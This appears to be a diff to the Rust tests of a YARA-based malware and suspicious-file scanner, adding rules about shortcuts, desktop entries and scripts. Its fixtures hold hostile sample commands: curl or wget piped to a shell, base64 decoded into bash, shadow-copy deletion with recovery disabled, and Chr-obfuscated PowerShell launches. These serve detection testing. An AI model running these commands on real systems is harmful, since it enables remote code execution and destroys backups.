@@ -6,7 +6,10 @@ use std::{
 
 use filesafety_model::Kind;
 
-use crate::yara::{Report, Rules, Scanner, text_meta};
+use crate::{
+    facts::{Fact, FactSet, suspicions},
+    yara::{Matched, Report, Rules, Scanner, Statement, facts, text_meta, texts_meta},
+};
 
 const AMPLE: Duration = Duration::from_secs(60);
 
@@ -16,7 +19,7 @@ fn eicar() -> Vec<u8> {
 }
 
 fn signatures(scanner: &mut Scanner<'_>, object: &[u8]) -> Vec<String> {
-    scanner.scan(object, AMPLE).unwrap().into_iter().map(|hit| hit.signature).collect()
+    scanner.scan(object, AMPLE).unwrap().hits.into_iter().map(|hit| hit.signature).collect()
 }
 
 fn wide(text: &str) -> Vec<u8> {
@@ -32,16 +35,20 @@ fn blob(len: usize) -> String {
 fn every_rule_says_what_it_reports_and_why() {
     let rules = Rules::load(None).unwrap();
     for rule in rules.compiled.iter().filter(|rule| !rule.is_private()) {
-        for key in ["description", "reference", "signature"] {
+        let keys: &[_] =
+            if facts(&rule).next().is_some() { &["description", "reference", "why"] } else { &["description", "reference", "signature"] };
+        for key in keys {
             assert!(text_meta(&rule, key).is_some_and(|text| text.len() > 10), "{} has no {key}", rule.identifier());
         }
+        assert!(texts_meta(&rule, "fact").all(|word| Fact::parse(word).is_some()), "{} names no fact", rule.identifier());
         match Report::of(&rule) {
             Report::Detection(Kind::Suspicious) => {
                 assert!(text_meta(&rule, "why").is_some(), "{} names no second fact", rule.identifier());
                 assert!(text_meta(&rule, "signature").unwrap().starts_with("Suspicious."));
             }
             Report::Detection(Kind::Malware) => assert_eq!(rule.identifier(), "EICAR_Test_File"),
-            other => panic!("{}: {other:?}", rule.identifier()),
+            Report::Nothing => assert!(facts(&rule).next().is_some(), "{} says nothing", rule.identifier()),
+            Report::Detection(other) => panic!("{}: {other:?}", rule.identifier()),
         }
     }
 }
@@ -75,7 +82,7 @@ fn eicar_is_found_whole_at_any_offset_and_only_whole() {
 #[test]
 fn eicar_is_malware() {
     let rules = Rules::load(None).unwrap();
-    assert_eq!(rules.scanner().scan(&eicar(), AMPLE).unwrap()[0].kind, Kind::Malware);
+    assert_eq!(rules.scanner().scan(&eicar(), AMPLE).unwrap().hits[0].kind, Kind::Malware);
 }
 
 type Objects = Vec<Vec<u8>>;
@@ -98,7 +105,26 @@ fn documents_and_programs() -> Vec<Case> {
     let program_wide = |text: &str| [b"MZ\x90\0".as_slice(), &wide(text)].concat();
     let shortcut = |text: &str| [b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".as_slice(), &wide(text)].concat();
     let both = "vssadmin.exe Delete Shadows /All /Quiet\0bcdedit /set {default} recoveryenabled No\0";
+    let padded = |blanks: &str| shortcut(&format!("C:\\Windows\\System32\\cmd.exe\0 {} /c start", blanks.repeat(40)));
     vec![
+        (
+            "Suspicious.Lnk.HidesArguments",
+            vec![padded("    "), padded("\t"), padded("\n"), padded("\n\r")],
+            vec![padded(" /q"), padded(" \t")],
+        ),
+        (
+            "Suspicious.Desktop.Downloads",
+            bytes([
+                "[Desktop Entry]\nType=Application\nExec=sh -c \"curl -s https://example.com/a | sh\"\n",
+                "[Desktop Entry]\nExec=bash -c 'wget -O /tmp/a http://example.com/a; chmod +x /tmp/a; /tmp/a'\n",
+                "# lure\n[Desktop Entry]\nName=report.pdf\nExec=sh -c 'echo eA== | base64 -d | bash'\n",
+            ]),
+            bytes([
+                "[Desktop Entry]\nExec=sh -c 'curl https://example.com/a > ~/a.txt'\n",
+                "[Desktop Entry]\nExec=browser https://example.com/curl | less\n",
+                "Exec=sh -c 'curl -s https://example.com/a | sh'\n",
+            ]),
+        ),
         (
             "Suspicious.Win.RecoveryDestroyed",
             vec![program(both), program_wide(both), program("wmic shadowcopy delete & wbadmin delete catalog -quiet")],
@@ -318,12 +344,103 @@ fn every_rule_hits_what_it_is_for_and_spares_near_misses() {
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
 
+/// `(rule, what it holds of, what not)`
+fn fact_cases() -> Vec<Case> {
+    let shortcut = |text: &str| [b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".as_slice(), &wide(text)].concat();
+    let codes = "x = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114) & Chr(115) & Chr(104) & Chr(101) & Chr(108) & Chr(108) & Chr(32) & Chr(45) & y";
+    vec![
+        (
+            "Shortcut_Starts_Interpreter",
+            vec![shortcut("C:\\Windows\\System32\\cmd.exe\0/k"), shortcut("\\powershell.exe -NoLogo")],
+            vec![shortcut("C:\\Program Files\\Browser\\browser.exe\0"), wide("cmd.exe /k"), shortcut("pwshell.exec")],
+        ),
+        (
+            "Script_Starts_Programs",
+            bytes([
+                "CreateObject(\"WScript.Shell\").Run \"calc\"",
+                "var s = new ActiveXObject('WScript.Shell'); s.Exec('calc')",
+                "GetObject(\"winmgmts:root\\cimv2:Win32_Process\").Create(\"calc\")",
+            ]),
+            bytes([
+                "CreateObject(\"WScript.Shell\").RegRead(\"HKLM\")",
+                "shell.Run \"calc\"",
+                "MZ CreateObject(\"WScript.Shell\").Run \"calc\"",
+            ]),
+        ),
+        (
+            "Script_Decodes_What_It_Runs",
+            vec![
+                codes.into(),
+                wide(codes),
+                b"ExecuteGlobal(StrReverse(s))".to_vec(),
+                b"eval(String.fromCharCode(97, 108))".to_vec(),
+                b"CreateObject(StrReverse(\"llehS.tpircSW\"))".to_vec(),
+            ],
+            bytes([
+                "line = line & Chr(13) & Chr(10)",
+                "eval(function(p,a,c,k,e,d){})",
+                "StrReverse(\"abc\")",
+                "JSON.parse(atob(x)); eval(y)",
+            ]),
+        ),
+        (
+            "Desktop_Entry_Starts_Shell",
+            bytes(["[Desktop Entry]\nExec=sh -c \"xterm\"\n", "[Desktop Entry]\nType=Application\nExec=/usr/bin/python3 -c 'x'\n"]),
+            bytes(["[Desktop Entry]\nExec=shotwell -c x\n", "Exec=sh -c x\n"]),
+        ),
+    ]
+}
+
+#[test]
+fn facts_hold_of_what_they_name_and_are_no_detection() {
+    let rules = Rules::load(None).unwrap();
+    let mut scanner = rules.scanner();
+    let mut wrong = Vec::new();
+    for (name, holds, near_misses) in fact_cases() {
+        let described = rules.compiled.iter().find(|rule| rule.identifier() == name).and_then(|rule| text_meta(&rule, "description"));
+        for (object, holds) in holds.into_iter().map(|object| (object, true)).chain(near_misses.into_iter().map(|object| (object, false))) {
+            let Matched { hits, statements } = scanner.scan(&object, AMPLE).unwrap();
+            let stated =
+                statements.iter().any(|statement| matches!(statement, Statement::Fact(_, detail) if Some(detail.as_str()) == described));
+            let mut facts = FactSet::default();
+            statements.iter().for_each(|statement| match statement {
+                Statement::Fact(fact, _) => facts.insert(*fact),
+                Statement::Note(_) => {}
+            });
+            if stated != holds || !hits.is_empty() || suspicions(facts).next().is_some() {
+                wrong.push(format!("{name}: {stated} {hits:?} {statements:?} of {}", String::from_utf8_lossy(&object)));
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+/// A script that decodes its command and starts it.
+#[test]
+fn two_facts_of_the_pack_are_suspicious_together() {
+    let rules = Rules::load(None).unwrap();
+    let script = "Set w = CreateObject(\"WScript.Shell\")\r\nExecute(StrReverse(s))\r\nw.Run t";
+    let Matched { hits, statements } = rules.scanner().scan(script.as_bytes(), AMPLE).unwrap();
+    let mut facts = FactSet::default();
+    for statement in statements {
+        match statement {
+            Statement::Fact(fact, _) => facts.insert(fact),
+            Statement::Note(note) => panic!("{note}"),
+        }
+    }
+    assert_eq!((hits, suspicions(facts).collect::<Vec<_>>()), (vec![], vec!["FileSafety.Suspicious.DecodesAndExecutes"]));
+}
+
 #[test]
 fn every_rule_has_its_cases() {
     let rules = Rules::load(None).unwrap();
     let covered: Vec<_> = cases().into_iter().map(|case| case.0).collect();
+    let stated: Vec<_> = fact_cases().into_iter().map(|case| case.0).collect();
     for rule in rules.compiled.iter() {
-        let signature = text_meta(&rule, "signature").unwrap();
+        let Some(signature) = text_meta(&rule, "signature") else {
+            assert!(stated.contains(&rule.identifier()), "{}", rule.identifier());
+            continue;
+        };
         assert!(signature == "EICAR-Test-File" || covered.contains(&signature), "{signature}");
     }
 }
@@ -364,7 +481,7 @@ fn system_files_are_clean() {
         let found = scanner.scan(&object, AMPLE);
         scanned += 1;
         size += object.len();
-        if found != Ok(Vec::new()) {
+        if !found.as_ref().is_ok_and(|found| found.hits.is_empty()) {
             wrong.push(format!("{}: {found:?}", path.display()));
         }
     }
